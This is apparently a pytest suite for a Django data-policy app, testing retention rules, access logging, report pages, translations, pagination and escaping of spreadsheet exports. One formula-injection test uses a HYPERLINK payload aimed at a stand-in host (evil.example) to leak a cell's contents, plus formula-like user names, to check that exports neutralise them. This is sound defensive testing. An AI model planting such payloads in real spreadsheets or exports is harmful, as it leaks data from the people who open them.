"""Review round 7: the data-policy admin's and the system owner's workflows.

1. retention, k and the inactivity window are read-only in the Django admin; the
   retention job never applies less than the inactivity window;
2. no spreadsheet formulas in the report's XLSX or the client's access-log CSV;
3. retention logs a deleted episode of a client who keeps another one; "Run retention
   now" is logged with role, IP and path;
4. report page: withdraw button only for those who may withdraw, translatable
   messages, history with labels;
5. access log page and the client's export show labels, local times;
6. consents and shares pages are paginated (50), and only the page shown is logged.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
import time_machine
from django.urls import reverse
from django.utils import timezone
from django.utils.translation import gettext

from datapolicy.models import AccessLog, Consent, Grant, Organisation, User
from datapolicy.reports import period_choices, report_approve, report_create
from datapolicy.retention import retention_run
from datapolicy.services import access_log_write
from datapolicy.views import ACTION_LABELS
from tests.conftest import make_episode, record

TODAY = timezone.localdate()


def _report(p: Any, title: str = "Kvartal") -> Any:
    return report_create(
        actor=p.analyst,
        organisation=p.org,
        title=title,
        selection={
            "scope": "org",
            "unit_id": None,
            "period": period_choices(TODAY)[0][0],
            "age_group": "",
        },
    )


# --- 1. retention, k, inactivity window -------------------------------------------


@pytest.mark.django_db
class TestPolicyFieldsOutsideTheAdmin:
    def test_admin_shows_them_read_only_and_ignores_a_post(self, org1: Any, client: Any) -> None:
        org = org1.org
        before = (org.retention_days, org.small_cell_k)
        client.force_login(org1.owner)
        url = f"/admin/datapolicy/organisation/{org.pk}/change/"
        form = client.get(url).context["adminform"].form
        for name in ("retention_days", "small_cell_k"):
            assert name not in form.fields
        # The inactivity window stays the system owner's (a statistics setting); the
        # retention job never deletes within it (next test).
        assert "inactivity_days" in form.fields
        response = client.post(
            url,
            {
                "name": org.name,
                "inactivity_days": 120,
                "small_cell_k": 3,
                "reliable_change": org.reliable_change,
                "srs_cutoff": org.srs_cutoff,
                "retention_days": 1,
            },
        )
        assert response.status_code == 302
        org.refresh_from_db()
        assert (org.retention_days, org.small_cell_k) == before
        assert org.inactivity_days == 120

    def test_retention_never_deletes_an_active_episode(self, org1: Any) -> None:
        from clients.models import Episode

        active = make_episode(org1, code="ACT-1", started_on=TODAY - dt.timedelta(days=30))
        record(active, TODAY - dt.timedelta(days=10), ors="20")
        old = make_episode(org1, code="OLD-1", started_on=TODAY - dt.timedelta(days=200))
        record(old, TODAY - dt.timedelta(days=150), ors="20")
        # A bad value stored another way (not through organisation_policy_update).
        Organisation.objects.filter(pk=org1.org.pk).update(retention_days=1)
        org1.org.refresh_from_db()
        assert org1.org.inactivity_days == 90

        run = retention_run(organisation=org1.org, today=TODAY)

        remaining = set(Episode.objects.for_org(org1.org).values_list("pk", flat=True))
        assert active.pk in remaining  # within the inactivity window: kept
        assert old.pk not in remaining  # inactive and past the (90-day) window: deleted
        assert run.episodes_deleted == 1


# --- 2. formula injection -----------------------------------------------------------


@pytest.mark.django_db
def test_report_xlsx_guards_title_and_approver_name(org1: Any, client: Any) -> None:
    from openpyxl import load_workbook

    title = '=HYPERLINK("https://evil.example/?d="&B6,"Klik")'
    rep = _report(org1, title=title)
    org1.dp_admin.first_name = "+cmd"
    org1.dp_admin.last_name = ""
    org1.dp_admin.save(update_fields=["first_name", "last_name"])
    org1.org.report_approvers.set([org1.dp_admin])
    report_approve(actor=org1.dp_admin, report=rep)
    client.force_login(org1.dp_admin)
    response = client.get(reverse("dp_report_export", args=[rep.pk]))
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(response.content))["Rapport"]
    assert ws["A1"].data_type == "s" and ws["A1"].value == "'" + title
    names = [r[1] for r in ws.iter_rows(values_only=True) if r and r[0] == gettext("Approved by")]
    assert names == ["'+cmd"]
    formulas = [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


@pytest.mark.django_db
def test_access_log_csv_guards_user_names(org1: Any, client: Any) -> None:
    ep = make_episode(org1, code="CSV-1")
    user = User.objects.create_user(username="-2+3", password="pw")
    access_log_write(actor=user, organisation=org1.org, action="view", obj=ep.client)
    client.force_login(org1.dp_admin)
    response = client.get(reverse("dp_access_log_export"), {"client": ep.client_id})
    rows = list(csv.reader(io.StringIO(response.content.decode())))[1:]
    names = {r[1] for r in rows}
    assert "'-2+3" in names and "-2+3" not in names


# --- 3. retention and the access log ------------------------------------------------


@pytest.mark.django_db
def test_retention_logs_a_deleted_episode_of_a_client_who_stays(org1: Any) -> None:
    from clients.models import Episode

    old = make_episode(org1, code="TWO-1", started_on=TODAY - dt.timedelta(days=900))
    record(old, TODAY - dt.timedelta(days=890), ors="20")
    old.closed_on = TODAY - dt.timedelta(days=880)
    old.status = "closed"
    old.save(update_fields=["closed_on", "status"])
    Episode.objects.for_org(org1.org).create(
        organisation=org1.org,
        client=old.client,
        therapist=org1.therapist_a,
        unit=org1.unit,
        age_group="adult",
        started_on=TODAY - dt.timedelta(days=20),
    )
    org1.org.retention_days = 365
    org1.org.save(update_fields=["retention_days"])
    run = retention_run(organisation=org1.org, today=TODAY)
    assert run.episodes_deleted == 1 and run.clients_deleted == 0
    deletions = list(
        AccessLog.objects.filter(organisation=org1.org, action="delete").values_list(
            "object_type", "object_id", "client_id", "username"
        )
    )
    assert deletions == [("episode", old.pk, old.client_id, "retention")]


@pytest.mark.django_db
def test_manual_retention_run_is_logged_with_role_ip_and_path(org1: Any, client: Any) -> None:
    client.force_login(org1.dp_admin)
    response = client.post(reverse("dp_retention_run"), REMOTE_ADDR="10.1.2.3")
    assert response.status_code == 302
    entry = AccessLog.objects.filter(organisation=org1.org, action="retention").get()
    assert entry.role == "dp_admin"
    assert entry.ip == "10.1.2.3"
    assert entry.path == reverse("dp_retention_run")


# --- 4. report pages ----------------------------------------------------------------


@pytest.mark.django_db
def test_withdraw_button_only_for_those_who_may(org1: Any, client: Any) -> None:
    rep = _report(org1)
    url = reverse("dp_report_withdraw", args=[rep.pk])
    for who in (org1.leader, org1.owner):
        client.force_login(who)
        assert url not in client.get(reverse("dp_report", args=[rep.pk])).content.decode()
    for who in (org1.analyst, org1.dp_admin):  # the author; a data-policy admin
        client.force_login(who)
        assert url in client.get(reverse("dp_report", args=[rep.pk])).content.decode()


@pytest.mark.skipif(
    shutil.which("xgettext") is None and not os.environ.get("CI"),
    reason="xgettext not installed (a developer machine; CI installs gettext and runs this)",
)
def test_report_messages_are_found_by_makemessages() -> None:
    """makemessages runs xgettext with Django's keywords (gettext_lazy, not aliases)."""
    views = Path(__file__).resolve().parents[2] / "datapolicy" / "views.py"
    out = subprocess.run(
        [
            "xgettext",
            "-L",
            "Python",
            "--keyword=gettext_lazy",
            "--from-code=UTF-8",
            "-o",
            "-",
            views,
        ],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    assert 'msgid "The report is approved."' in out
    assert 'msgid "The report is withdrawn."' in out


@pytest.mark.django_db
def test_report_history_shows_labels(org1: Any, client: Any) -> None:
    rep = _report(org1)
    org1.org.report_approvers.set([org1.dp_admin])
    client.force_login(org1.dp_admin)
    response = client.post(reverse("dp_report_approve", args=[rep.pk]), {"note": ""}, follow=True)
    html = response.content.decode()
    assert "· created" not in html and "· approved" not in html
    assert f"· {gettext('Created')}" in html and f"· {gettext('Approved')}" in html


# --- 5. access log labels, export in the request's language and local time -------


@pytest.mark.django_db
def test_access_log_page_shows_labels(org1: Any, client: Any) -> None:
    client.force_login(org1.dp_admin)
    client.get(reverse("dp_consents"))
    html = client.get(reverse("dp_access_log")).content.decode()
    assert "<td>dp_admin</td>" not in html and "<td>list</td>" not in html
    assert f"<td>{gettext('Data-policy admin')}</td>" in html
    assert f"<td>{ACTION_LABELS['list']}</td>" in html
    assert f'<option value="list">{ACTION_LABELS["list"]}</option>' in html
    assert '<option value="list">list</option>' not in html


@pytest.mark.django_db
def test_client_export_in_danish_and_local_time(org1: Any, client: Any) -> None:
    ep = make_episode(org1, code="TZ-1")
    with time_machine.travel(dt.datetime(2026, 1, 5, 10, 0, tzinfo=dt.UTC)):
        access_log_write(
            actor=org1.therapist_a,
            organisation=org1.org,
            action="view",
            obj=ep,
            role="therapist",
        )
    client.force_login(org1.dp_admin)
    response = client.get(reverse("dp_access_log_export"), {"client": ep.client_id})
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][:4] == ["Tidspunkt", "Bruger", "Rolle", "Handling"]  # Danish by default
    viewed = [r for r in rows[1:] if r[0].startswith("2026-01-05")]
    assert viewed and viewed[0][0] == "2026-01-05 11:00:00+01:00"  # Copenhagen, not UTC
    assert viewed[0][2] == gettext("Therapist") == "Behandler"
    assert viewed[0][3] == str(ACTION_LABELS["view"]) and viewed[0][3] != "view"

    client.cookies["django_language"] = "en"  # the language chosen on the pages
    english = client.get(reverse("dp_access_log_export"), {"client": ep.client_id})
    header = next(csv.reader(io.StringIO(english.content.decode())))
    assert header[:4] == ["Time", "User", "Role", "Action"]


# --- 6. pagination ------------------------------------------------------------------


@pytest.mark.django_db
def test_consents_page_shows_and_logs_fifty(org1: Any, client: Any) -> None:
    from clients.models import Client

    clients = Client.objects.for_org(org1.org).bulk_create(
        [Client(organisation=org1.org, code=f"PG-{i}") for i in range(55)]
    )
    Consent.objects.for_org(org1.org).bulk_create(
        [
            Consent(
                organisation=org1.org,
                client=c,
                purpose="Forskning",
                given_on=TODAY,
                recorded_by=org1.dp_admin,
            )
            for c in clients
        ]
    )
    client.force_login(org1.dp_admin)
    first = client.get(reverse("dp_consents"))
    assert len(first.context["consents"]) == 50
    assert "?page=2" in first.content.decode()
    logged = AccessLog.objects.filter(organisation=org1.org, action="list", object_type="consent")
    assert logged.count() == 50
    shown = {c.client_id for c in first.context["consents"]}
    assert set(logged.values_list("client_id", flat=True)) == shown
    second = client.get(reverse("dp_consents"), {"page": 2})
    assert len(second.context["consents"]) == 5
    assert logged.count() == 55


@pytest.mark.django_db
def test_shares_page_shows_fifty(org1: Any, client: Any) -> None:
    now = timezone.now()
    Grant.objects.for_org(org1.org).bulk_create(
        [
            Grant(
                organisation=org1.org,
                kind=Grant.Kind.OWN_FIGURES,
                grantor=org1.therapist_a,
                grantee=org1.leader,
                purpose=f"Supervision {i}",
                starts_at=now,
                expires_at=now + dt.timedelta(days=30),
                created_by=org1.therapist_a,
            )
            for i in range(53)
        ]
    )
    client.force_login(org1.dp_admin)
    first = client.get(reverse("dp_grants"))
    assert len(first.context["grants"]) == 50
    assert "?page=2" in first.content.decode()
    assert len(client.get(reverse("dp_grants"), {"page": 2}).context["grants"]) == 3
